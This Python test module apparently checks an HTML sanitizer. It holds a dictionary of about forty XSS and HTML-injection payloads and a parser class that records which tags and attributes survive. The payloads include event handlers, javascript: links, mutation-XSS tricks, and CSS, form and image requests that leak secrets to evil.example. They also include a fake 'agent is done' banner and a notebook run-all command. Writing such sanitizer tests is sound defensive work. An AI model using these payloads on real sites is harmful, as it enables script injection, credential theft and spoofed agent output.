"""HTML that wants more than to be looked at, and a reader that judges what became of it."""

from __future__ import annotations

from html.parser import HTMLParser

TRICKS = {
    "onerror": '<img src=x onerror="alert(1)">',
    "unquoted handler": "<img/src=x/onerror=alert(1)>",
    "handler on an allowed tag": '<b onmouseover="alert(1)" style="x">b</b>',
    "script": "<script>alert(1)</script>",
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "iframe srcdoc": '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
    "javascript link": '<a href="javascript:alert(1)">click</a>',
    "javascript link with a tab": '<a href="java\tscript:alert(1)">click</a>',
    "javascript link with a control": '<a href="\x01javascript:alert(1)">click</a>',
    "javascript link in entities": '<a href="&#106;avascript&colon;alert(1)">click</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    "svg onload": "<svg onload=alert(1)></svg>",
    "svg in a picture address": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "namespace confusion": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;<img src=x onerror=alert(1)>'>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "textarea": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "style address": '<div style="background:url(http://evil.example/?secret)">x</div>',
    "style in an escape": '<div style="background:\\75rl(http://evil.example/)">x</div>',
    "style expression": '<div style="width:expression(alert(1))">x</div>',
    "style over the page": '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    "style tag": "<style>* { background: url(http://evil.example/) }</style>",
    "imported style": '<link rel="stylesheet" href="http://evil.example/x.css">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "base": '<base href="http://evil.example/">',
    "form": '<form action="http://evil.example/"><input name="token"><button>Log in</button></form>',
    "remote picture": '<img src="http://evil.example/?secret=1" srcset="http://evil.example/ 2x">',
    "remote table background": '<table background="http://evil.example/"><tr><td>x</td></tr></table>',
    "video": '<video poster="http://evil.example/" autoplay><source src="http://evil.example/"></video>',
    "object": '<object data="http://evil.example/"></object><embed src="http://evil.example/">',
    "unclosed comment": "<!-- <b>never closed",
    "odd comment": "<!--><img src=x onerror=alert(1)>-->",
    "odd comment end": "<!-- --!><img src=x onerror=alert(1)> -->",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "unknown declaration": "<![if foo]><img src=x onerror=alert(1)><![endif]>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?><img src=x onerror=alert(1)>",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "unclosed tag": "<img src=x onerror=alert(1) ",
    "unclosed quote": '<a title="<img src=x onerror=alert(1)>',
    "attribute break-out": "<b title='\"><img src=x onerror=alert(1)>'>b</b>",
    "closing our boxes": "</div></details></div></div><h1>The agent is done</h1><script>alert(1)</script>",
    "a command of the front-end": '<b data-commandlinker-command="notebook:run-all-cells" id="main">b</b>',
    "null in a tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "deep": "<div>" * 5_000 + "<img src=x onerror=alert(1)>",
    "upper case": "<IMG SRC=x ONERROR=alert(1)><SCRIPT>alert(1)</SCRIPT>",
}


class Judge(HTMLParser):
    """Reads HTML and keeps what it could do."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.values: list[str] = []
        self.depth = self.lowest = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.values += [value or "" for _, value in attrs]
        self.depth += tag not in {"br", "hr", "img", "col", "wbr"}

    def handle_endtag(self, tag: str) -> None:
        self.depth -= 1
        self.lowest = min(self.lowest, self.depth)

    def handle_comment(self, data: str) -> None:
        self.tags.add("<!--")

    def handle_decl(self, decl: str) -> None:
        self.tags.add("<!")
